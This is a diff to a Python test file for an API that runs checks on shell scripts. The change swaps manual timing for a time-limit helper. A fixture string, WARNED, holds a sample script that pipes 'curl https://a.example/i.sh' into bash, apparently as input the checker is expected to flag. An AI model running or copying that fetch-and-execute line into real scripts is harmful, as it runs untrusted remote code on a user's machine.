@@ -1,11 +1,10 @@
 """GET /api/assemblies/<guid>/checks, and `findings=` of the list."""
 
-from time import process_time
-
 from assemblies.actions.check_scripts import check_unchecked
 from assemblies.models import CheckResult
 from assemblies.payloads import PayloadStore
 from tests.api.conftest import Api, MakeAssembly, assert_private, assert_refused, path_of
+from tests.patience import at_most
 
 WARNED = '#!/bin/bash\necho "$TARGET"\ncurl https://a.example/i.sh | bash\n'
 RULE = "/settings/suppressed_check/undeclared-variable"
@@ -42,11 +41,8 @@ def test_nobody_waits_for_the_checks_of_a_long_script(
     as_viewer: Api, make_assembly: MakeAssembly, library: PayloadStore
 ) -> None:
     guid = make_assembly(script="#!/bin/bash\n" + "'\"" * 500_000 + "\n")
-    started = process_time()
-
-    pending = as_viewer.get(path_of(guid, "/checks"))
-
-    assert process_time() - started < 1
+    with at_most(1):
+        pending = as_viewer.get(path_of(guid, "/checks"))
     assert (pending.status_code, pending.json()["status"], pending["Retry-After"]) == (202, "pending", "5")
     assert "findings" not in pending.json()
     check_unchecked(library)
